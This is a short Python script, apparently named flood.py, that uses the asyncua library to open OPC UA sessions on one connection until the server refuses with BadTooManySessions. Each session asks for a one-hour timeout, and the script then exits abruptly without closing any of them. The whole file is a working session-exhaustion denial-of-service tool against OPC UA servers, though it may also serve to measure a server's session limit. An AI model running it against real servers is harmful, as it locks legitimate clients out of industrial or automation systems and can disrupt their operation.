"""A client that opens sessions over one connection until there are no more, and dies without a word. Prints how many they
were, and for how long the server says that they last, in ms.

    flood.py URL
"""

import asyncio
import os
import sys

from asyncua import Client, ua


async def main(url):
    client = Client(url, timeout=60)
    await client.connect_socket()
    await client.send_hello()
    await client.open_secure_channel()
    count, lasting = 0, set()
    try:
        while True:
            params = ua.CreateSessionParameters()
            params.ClientNonce = b"n" * 32
            params.EndpointUrl = url
            params.SessionName = f"flood {count}"
            params.RequestedSessionTimeout = 3_600_000
            lasting.add((await client.uaclient.create_session(params)).RevisedSessionTimeout)
            count += 1
    except ua.uaerrors.BadTooManySessions:
        pass
    print(count, *lasting, flush=True)
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
